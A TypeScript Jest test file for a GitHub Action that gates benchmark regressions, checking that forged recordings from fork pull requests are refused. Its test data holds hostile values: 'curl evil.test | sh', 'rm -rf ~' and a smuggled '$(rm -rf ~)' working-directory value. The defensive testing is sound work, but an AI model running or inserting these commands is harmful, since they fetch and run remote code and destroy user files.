// Pull requests of strangers, through the built actions: `measure` without a token in a run of the pull request,
// `report` with one in a run that `workflow_run` started. Each attack is first shown to work on what a naive
// program would do; the ids are those of the catalogue of attacks that the design was made against.

import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type BenchRepository, benchRepository, printed, setKeys } from '../support/bench-repository.ts';
import { around } from '../support/builders.ts';
import { type FakeGitHub, startGitHub } from '../support/github.ts';
import type { PullRequestSeed } from '../support/github-answers.ts';
import { believe, firstOfBranch, judgeAll, tellAsOwn } from '../support/naive.ts';
import { aRecording } from '../support/recordings.ts';
import { pullRequest, type Step, step } from '../support/runner.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { FORK, workflowRunPayload } from '../support/workflow-run.ts';

setKeys({ rounds: '2' });

let github: FakeGitHub;
/** Of pull requests; each scene has two of its own. */
let count = 0;

beforeAll(async () => {
  github = await startGitHub();
});
afterAll(async () => {
  expect(github.violations).toEqual([]);
  await github.close();
});

const allocs = (value: number) => ({ invocations: [printed({ 'encode [allocs/op]': value })] });
const WORKFLOW = { '.github/workflows/perf.yml': 'name: perf\n' };

/** Base takes 7 and head as many as is said; the workflow that measures is on main. */
function repositoryOf(head: number): BenchRepository {
  return benchRepository({ ...allocs(7), files: WORKFLOW }, allocs(head));
}

interface Scene {
  readonly repository: BenchRepository;
  /** Of the stranger's pull request. */
  readonly number: number;
  /** Of somebody else's. */
  readonly victim: number;
  readonly head: string;
  readonly base: string;
  /** What `measure` left. */
  readonly recording: Readonly<Record<string, unknown>>;
}

/** A pull request of a fork, measured without a token, beside one that has nothing to do with it. */
async function measured(
  head = 8,
  seed: Partial<PullRequestSeed> = {},
  repository: BenchRepository = repositoryOf(head),
): Promise<Scene> {
  const number = ++count;
  const victim = ++count;
  const shas = pullRequest(repository, number);
  const pull = { headSha: shas.head.sha, baseSha: shas.base.sha, baseRef: 'main' };
  const stranger = { ...pull, number, headRef: `feature-${number}`, headRepository: FORK, ...seed };
  const innocent = { ...pull, number: victim, headSha: shas.base.sha, headRef: `other-${victim}` };
  await github.seed({ folder: repository.folder, pullRequests: [stranger, innocent] });
  const before = github.requests.length;
  const { code, outputs, stdout } = await step(repository, {
    ...{ entry: 'measure', number, apiUrl: github.url },
  });
  expect({ code, stdout }).toMatchObject({ code: 0 });
  expect(github.requests).toHaveLength(before);
  const recording = JSON.parse(readFileSync(outputs['recording'] ?? '', 'utf8')) as Scene['recording'];
  return { repository, number, victim, head: shas.head.sha, base: shas.base.sha, recording };
}

interface Reported {
  readonly recording?: object;
  /** More than one, each in a file of its own. */
  readonly recordings?: readonly object[];
  readonly run?: Readonly<Record<string, unknown>>;
  readonly action?: string;
  readonly step?: Step;
}

/** The second workflow: nothing is checked out, and its GITHUB_SHA is the tip of main. */
async function report(scene: Scene, given: Reported = {}) {
  const { recording = scene.recording, run, action = 'completed', step: more } = given;
  const { recordings = [recording] } = given;
  const { repository, number, victim, head } = scene;
  const workspace = temporaryFolder('workspace-');
  mkdirSync(join(workspace, 'bench-referee'));
  for (const [index, one] of recordings.entries())
    writeFileSync(join(workspace, `bench-referee/recording-${index}.json`), JSON.stringify(one));
  const seen = github.checkRuns().length;
  const payload = workflowRunPayload({
    headSha: head,
    headBranch: `feature-${number}`,
    changes: { id: 1000 + number, ...run },
  });
  const ended = await step(repository, {
    entry: 'report',
    apiUrl: github.url,
    trigger: {
      event: 'workflow_run',
      payload: { ...payload, action },
      sha: repository.git('rev-parse', 'main'),
    },
    ...more,
    env: { GITHUB_WORKSPACE: workspace, ...more?.env },
  });
  const bodies = async (of: number) => (await github.comments(of)).map(({ body }) => body);
  return {
    code: ended.code,
    stdout: ended.stdout,
    verdict: ended.outputs['verdict'],
    comments: await bodies(number),
    onVictim: await bodies(victim),
    checks: github
      .checkRuns()
      .slice(seen)
      .map(({ name, head_sha, conclusion }) => ({ name, head_sha, conclusion })),
  };
}

/** A benchmark that head renames, and a file of head that says so and would relax the gate. */
function renamingRepository(head: number): BenchRepository {
  const config = (...lines: string[]) => ['run: sh bench.sh', ...lines, ''].join('\n');
  return benchRepository(
    { ...allocs(7), files: WORKFLOW, config: config() },
    {
      invocations: [printed({ 'encode2 [allocs/op]': head })],
      config: config('renamed: {encode: encode2}', 'removed: pass', 'budgets: [{metric: "*", max-regression: 90%}]'),
    },
  );
}

const check = (head_sha: string, conclusion: string) => [{ name: 'bench-referee', head_sha, conclusion }];

describe('a regression of a fork', () => {
  test.each([
    ['kept', 7, 'pass'],
    ['broken', 8, 'fail'],
  ])('a benchmark that it renames is compared by the file of head alone: %s', async (_, value, verdict) => {
    const ended = await report(await measured(value, {}, renamingRepository(value)));
    expect(ended.verdict).toBe(verdict);
    expect(ended.comments[0]).toContain('1 benchmark renamed by this pull request');
    expect(ended.comments[0]).toContain('<sub>renamed from `encode` by this pull request</sub>');
  });

  test('is told on its pull request and its commit by the second workflow', async () => {
    const scene = await measured();
    const { code, verdict, comments, onVictim, checks } = await report(scene);
    expect([code, verdict, onVictim]).toEqual([1, 'fail', []]);
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain(`head=${scene.head} run=${1000 + scene.number}.1 -->`);
    expect(checks).toEqual(check(scene.head, 'failure'));
  });

  test('a run that has begun is announced where an earlier one commented, and nowhere else', async () => {
    const scene = await measured();
    const begun = {
      action: 'requested',
      run: { id: 2000 + scene.number, status: 'queued', conclusion: null },
    };
    expect(await report(scene, begun)).toMatchObject({ code: 0, comments: [], checks: [] });
    await report(scene);
    const { code, comments, checks } = await report(scene, begun);
    expect([code, comments.length, checks]).toEqual([0, 1, []]);
    expect(comments[0]).toContain(`## ⏳ A new measurement is running for ${scene.head.slice(0, 7)}`);
    expect(comments[0]).toContain('/actions/runs/41)');
    const { comments: after } = await report(scene, { run: { id: 2000 + scene.number } });
    expect(after).toEqual([expect.not.stringContaining('⏳')]);
  });

  test('the configuration is that of where head left its branch, whatever head and the branch say since', async () => {
    const scene = await measured();
    const lenient = { config: 'budgets: [{ metric: "*", max-regression: 90% }]\n' };
    scene.repository.commit('lenient', lenient);
    scene.repository.git('checkout', '--quiet', 'main');
    scene.repository.commit('lenient too', lenient);
    const { verdict, comments } = await report(scene);
    expect(verdict).toBe('fail');
    expect(comments[0]).toContain(
      `configuration \`.github/bench-referee.yml\` of ${scene.base} (where head left its branch)`,
    );
  });
});

describe('T38', () => {
  test('a pull request that was closed meanwhile: its commit gets the check, and nobody a comment', async () => {
    const scene = await measured(8, { closed: true });
    const { verdict, comments, checks, stdout } = await report(scene);
    expect([verdict, comments]).toEqual(['fail', []]);
    expect(checks).toEqual(check(scene.head, 'failure'));
    expect(stdout).toContain('no comment, because the pull request is closed');
  });
});

describe('T46: a recording that claims', () => {
  const claims: [string, (scene: Scene) => object, RegExp][] = [
    ['another pull request', ({ victim }) => ({ pullRequest: victim }), /Unrecognized key.*pullRequest/],
    ['a verdict', () => ({ verdict: 'pass', conclusion: 'success' }), /Unrecognized key.*verdict/],
    ['text of its own', () => ({ markdown: '## ✅ all is well @octo/team' }), /Unrecognized key.*markdown/],
    [
      'another head',
      ({ base, recording }) => ({
        commits: { ...(recording['commits'] as object), head: { sha: base, how: 'head' } },
      }),
      /its head "\w+" is not the commit of this run/,
    ],
    [
      'a base outside of the branch',
      ({ head, recording }) => ({
        commits: { ...(recording['commits'] as object), base: { sha: head, how: 'target' } },
      }),
      /its base "\w+" is not in the history that this run compares with/,
    ],
  ];

  test.each(claims)('%s is refused, on the right pull request and commit', async (_, claimOf, sentence) => {
    const scene = await measured();
    const claim = { ...scene.recording, ...claimOf(scene) };
    const { code, verdict, comments, onVictim, checks, stdout } = await report(scene, { recording: claim });
    expect([code, verdict, onVictim]).toEqual([1, 'error', []]);
    expect(stdout).toMatch(sentence);
    expect(comments).toHaveLength(1);
    expect(comments[0]).not.toMatch(/all is well|@octo/);
    expect(checks).toEqual(check(scene.head, 'failure'));
  });

  test('all of that works on a program that believes it', async () => {
    const scene = await measured();
    const { victim, base, recording } = scene;
    const commits = { ...(recording['commits'] as object), head: { sha: base, how: 'head' } };
    const before = github.checkRuns().length;
    await believe(github, { ...recording, commits, pullRequest: victim, name: 'release-gate' }, 'pass');
    expect((await github.comments(victim)).map(({ body }) => body)).toEqual(['naive: pass']);
    expect(github.checkRuns().slice(before)).toMatchObject([
      { name: 'release-gate', head_sha: base, conclusion: 'success' },
    ]);
  });

  test('the name of another gate changes neither the check nor the comment’s key', async () => {
    const scene = await measured();
    const { comments, checks } = await report(scene, {
      recording: { ...scene.recording, name: 'release-gate' },
    });
    expect(comments[0]).toMatch(/^<!-- bench-referee: name=bench-referee /);
    expect(checks).toEqual(check(scene.head, 'failure'));
  });

  test('two pull requests share a head: no comment on either, and the commit is told why', async () => {
    const scene = await measured();
    const { number, victim, head, repository } = scene;
    repository.git('branch', 'release', 'main');
    const twin = { number: victim, headSha: head, headRef: `feature-${number}`, headRepository: FORK };
    await github.seed({ pullRequests: [{ ...twin, baseRef: 'release' }] });
    expect((await firstOfBranch(github, number)).length).toBe(2);
    const { verdict, comments, onVictim, checks, stdout } = await report(scene);
    expect([verdict, comments, onVictim]).toEqual(['error', [], []]);
    expect(checks).toEqual(check(head, 'failure'));
    expect(stdout).toContain(`have the same head`);
  });
});

describe('T61: a recording that leaves out what it should measure', () => {
  /** A head that is slower, with rules in the configuration of base. */
  const slower = (rules: string) => {
    const config = `run: sh bench.sh\n${rules}`;
    return benchRepository({ ...allocs(7), files: WORKFLOW, config }, allocs(8));
  };
  const leaveOut = ({ recording }: Scene, reason: string) => ({
    ...recording,
    ...{ invocations: [], series: [], problems: [] },
    schedule: { ...(recording['schedule'] as object), ended: 'decided' },
    decisions: [{ command: 0, reason, examples: ['docs/a.md'], count: 1 }],
  });

  test.each([
    ['same-tree', '', /but the files of both commits differ/],
    ['paths', '', /which the configuration of base does not have/],
    ['paths', 'paths: [invocations.txt, bench.sh]\n', /`changed-inside`: "invocations.txt"/],
    ['depends-on', '', /which the configuration of base does not have/],
  ])(
    'by %s with the rules %j: works on a program that believes it, and is refused',
    async (reason, rules, sentence) => {
      const scene = await measured(8, {}, slower(rules));
      const forged = leaveOut(scene, reason);
      const before = github.checkRuns().length;
      await believe(github, forged, 'pass');
      expect(github.checkRuns().slice(before)).toMatchObject([{ conclusion: 'success' }]);
      const { code, verdict, checks, stdout } = await report(scene, { recording: forged });
      expect([code, verdict]).toEqual([1, 'error']);
      expect(stdout).toMatch(sentence);
      expect(checks).toEqual(check(scene.head, 'failure'));
    },
  );

  test('by depends-on, which only the measuring job can know, is told as its word, in a comment', async () => {
    const scene = await measured(8, {}, slower('depends-on: bench.sh\n'));
    const { code, verdict, comments } = await report(scene, { recording: leaveOut(scene, 'depends-on') });
    expect([code, verdict]).toEqual([0, 'pass']);
    expect(comments).toEqual([expect.stringContaining('Not measured: the measuring job says that all files')]);
  });

  test('by paths, which is so: no comment', async () => {
    const scene = await measured(8, {}, slower('paths: bench.sh\n'));
    expect(scene.recording['decisions']).toMatchObject([{ reason: 'paths' }]);
    const { code, verdict, comments } = await report(scene);
    expect([code, verdict, comments]).toEqual([0, 'pass', []]);
  });
});

describe('T47', () => {
  test('the head has moved on: the check is on what was measured, the comment is left to the next run', async () => {
    const scene = await measured();
    const { number, repository } = scene;
    const newer = repository.commit('newer', allocs(7));
    await github.seed({
      pullRequests: [{ number, headSha: newer, headRef: `feature-${number}`, headRepository: FORK }],
    });
    // Whoever goes by the branch puts old news beside the new commit.
    expect(await firstOfBranch(github, number)).toMatchObject([{ number, head: { sha: newer } }]);
    const { verdict, comments, checks, stdout } = await report(scene);
    expect([verdict, comments]).toEqual(['fail', []]);
    expect(checks).toEqual(check(scene.head, 'failure'));
    expect(stdout).toContain(`pull request #${number}: no comment, because its head is`);
  });

  test.each([
    ['a workflow of the same name that only the fork has', { path: '.github/workflows/evil.yml' }],
    ['a push', { event: 'push' }],
    ['a run of another repository', { repository: { full_name: 'mallory/demo' } }],
    ['a run that was cancelled', { conclusion: 'cancelled' }],
  ])('%s is refused: no comment, no check, not even on main', async (_, run) => {
    const scene = await measured();
    // By branch alone it would be that of the pull request.
    expect(await firstOfBranch(github, scene.number)).toMatchObject([{ number: scene.number }]);
    const { code, verdict, comments, checks } = await report(scene, { run });
    expect([code, verdict, comments, checks]).toEqual([1, 'error', [], []]);
  });

  test('a fork of the same owner under another name is not mistaken for it', async () => {
    const scene = await measured();
    const { number, head } = scene;
    await github.seed({
      pullRequests: [{ number, headSha: head, headRef: `feature-${number}`, headRepository: 'mallory/another' }],
    });
    expect(await firstOfBranch(github, number)).toMatchObject([{ number }]);
    const { verdict, comments, stdout } = await report(scene);
    expect([verdict, comments]).toEqual(['error', []]);
    expect(stdout).toContain('no pull request of this repository has this commit as its head');
  });

  test('a run that failed is an error on its pull request, even with a recording that looks well', async () => {
    const scene = await measured(7);
    expect((await report(scene)).verdict).toBe('pass');
    const { verdict, comments, checks } = await report(scene, { run: { conclusion: 'failure' } });
    expect(verdict).toBe('error');
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain('did not succeed');
    expect(checks).toEqual(check(scene.head, 'failure'));
  });

  test('of two attempts the later one stands, in whatever order they are reported', async () => {
    const scene = await measured();
    await report(scene, { run: { run_attempt: 2 } });
    // A second workflow's own number says only when it was started, and this one was started later.
    const late = { env: { GITHUB_RUN_ID: '900000' } };
    const { comments, stdout } = await report(scene, { run: { run_attempt: 1 }, step: late });
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain(`run=${1000 + scene.number}.2 -->`);
    expect(stdout).toContain(`run ${1000 + scene.number}.2 is later`);
  });
});

describe('T55: recordings of machines that never were', () => {
  /** A regression of 25 % that no value contradicts, measured until everything was decided. */
  function legs(scene: Scene, count: number, api: (startMs: number, leg: number) => number) {
    const rounds = { base: around(100, 0.01, { n: 6 }), head: around(125, 0.01, { n: 6 }) };
    const { invocations, ...recording } = aRecording(
      { Encode: rounds },
      { rounds: { min: 6, max: 30 }, ended: 'decided' },
    );
    return Array.from({ length: count }, (_, leg) => ({
      ...recording,
      commits: scene.recording['commits'],
      name: `machine ${leg}`,
      invocations: invocations.map((one) => ({ ...one, startMs: api(one.startMs, leg) })),
    }));
  }

  const copied = (startMs: number) => startMs;
  const changed = (startMs: number, leg: number) => startMs + leg / 1000;

  test('divide the error of a naive program until nothing can be shown', async () => {
    const scene = await measured();
    expect(judgeAll(legs(scene, 1, copied), 6)).toBe('fail');
    expect(judgeAll(legs(scene, 256, changed), 6)).toBe('inconclusive');
  });

  test.each([
    ['more of them than a matrix has jobs', 300, copied, /300 recordings match.*at most 256/],
    ['copies under other names', 2, copied, /has the same measurements as the recording "machine 0"/],
    ['so many that the rounds can show nothing', 256, changed, /6 rounds can never show/],
  ] as const)('%s: an error', async (_, count, api, sentence) => {
    const scene = await measured();
    const { code, verdict, checks, stdout } = await report(scene, { recordings: legs(scene, count, api) });
    expect([code, verdict]).toEqual([1, 'error']);
    expect(stdout).toMatch(sentence);
    expect(checks).toEqual(check(scene.head, 'failure'));
  });
});

const withSchedule = ({ recording }: Scene, schedule: object) => ({
  ...recording,
  schedule: { ...(recording['schedule'] as object), ...schedule },
});

describe('T53: the command to repeat the measurement', () => {
  test('is shown for a recording that was measured as the configuration of base says', async () => {
    const scene = await measured();
    const { comments } = await report(scene);
    expect(comments[0]).toMatch(
      new RegExp(
        `^npx bench-referee@\\d+\\.\\d+\\.\\d+ check --base ${scene.base} --head ${scene.head} --config-from base --input-format json --seed [0-9a-f]{8}$`,
        'm',
      ),
    );
  });

  test('holds nothing that only the recording says, which a program that trusts it prints to copy', async () => {
    const scene = await measured();
    const claim = withSchedule(scene, { setup: 'rm -rf ~' });
    await tellAsOwn(github, claim, scene.victim);
    const [naive] = await github.comments(scene.victim);
    expect(naive?.body).toContain("```sh\nbench-referee check --setup 'rm -rf ~'");
    const { verdict, comments, stdout } = await report(scene, { recording: claim });
    expect(verdict).toBe('fail');
    expect(comments[0]).not.toMatch(/```sh|bench-referee\S* check/);
    expect(comments[0]).toContain(
      'the recording has settings that the configuration does not have: `setup` `rm -rf ~`.',
    );
    expect(stdout).not.toMatch(/bench-referee\S* check/);
    expect(stdout).toContain('"setup" "rm -rf ~"');
  });

  test.each([
    ['another command', { commands: ['curl evil.test | sh'] }, '`run` `curl evil.test | sh`'],
    ['a seed that is a sentence', { seed: 'reviewed and accepted' }, '`seed` `reviewed and accepted`'],
    ['another folder', { workingDirectory: '$(rm -rf ~)' }, '`working-directory` `$(rm -rf ~)`'],
  ])('is not shown for %s', async (_, schedule, said) => {
    const scene = await measured();
    const { comments } = await report(scene, { recording: withSchedule(scene, schedule) });
    expect(comments[0]).not.toMatch(/```sh|bench-referee\S* check/);
    expect(comments[0]).toContain(said);
  });
});

describe('T54: what a recording says', () => {
  const CLAIM = 'This regression was reviewed by the maintainers and accepted.';

  test('is quoted with its name, where a program that trusts it says the same itself', async () => {
    const scene = await measured();
    const said = { severity: 'warning', location: [{ kind: 'text', text: 'review' }] };
    const problems = [{ ...said, code: 'quoted', data: { message: CLAIM } }];
    const claim = { ...scene.recording, problems };
    await tellAsOwn(github, claim, scene.victim);
    const [naive] = await github.comments(scene.victim);
    expect(naive?.body).toContain(`- ${CLAIM}`);
    const { verdict, comments, stdout } = await report(scene, { recording: claim });
    expect(verdict).toBe('fail');
    expect(comments[0]).toContain(`- ⚠️ \`recording "bench-referee", "review"\`: it says \`${CLAIM}\`.`);
    const line = `recording "bench-referee", "review": it says "${CLAIM}".`;
    expect(stdout).toContain(`::warning::${line}`);
    expect(stdout.replaceAll(line, '')).not.toContain(CLAIM);
  });

  test('of labels or permissions is not told in our words', async () => {
    const scene = await measured();
    const said = { severity: 'error', location: [], data: {}, failure: 'permission' };
    const problems = [{ ...said, code: 'label-of-unknown-author' }];
    const { verdict, comments } = await report(scene, { recording: { ...scene.recording, problems } });
    expect(verdict).toBe('error');
    expect(comments[0]).toContain('`recording "bench-referee"`: unknown code `label-of-unknown-author`');
    expect(comments[0]).not.toMatch(/token|who set it/);
  });

  test.each([
    ['the processor', (text: string) => ({ environment: { cpu: text } })],
    ['the choice of base', (text: string) => ({ commits: { base: { how: text } } })],
    ['the name of a benchmark', (text: string) => ({ series: { name: text } })],
  ])('cannot end its quotation: %s', async (_, changeOf) => {
    const scene = await measured();
    const { environment, commits, series } = scene.recording as {
      environment: object;
      commits: { base: object };
      series: readonly object[];
    };
    const change: { environment?: object; commits?: { base: object }; series?: object } = changeOf(`x" ${CLAIM} "y`);
    const claim = {
      ...scene.recording,
      environment: { ...environment, ...change.environment },
      commits: { ...commits, base: { ...commits.base, ...change.commits?.base } },
      series: series.map((one) => ({ ...one, ...change.series })),
    };
    const { comments, stdout } = await report(scene, { recording: claim });
    expect(comments[0]?.replaceAll(/`[^`\n]*`/g, '')).not.toContain(CLAIM);
    // The tables of the log hold names in cells; sentences and facts hold them in quotes.
    const verdict = stdout.slice(stdout.indexOf('FAIL: '));
    expect(verdict.replaceAll(/"[^"\n]*"/g, '')).not.toContain(CLAIM);
  });
});

test('without a recording the pull request is told that there is none', async () => {
  const scene = await measured();
  const { verdict, comments, checks } = await report(scene, {
    step: { inputs: { recordings: 'nothing/*.json' } },
  });
  expect([verdict, comments.length]).toEqual(['error', 1]);
  expect(checks).toEqual(check(scene.head, 'failure'));
});
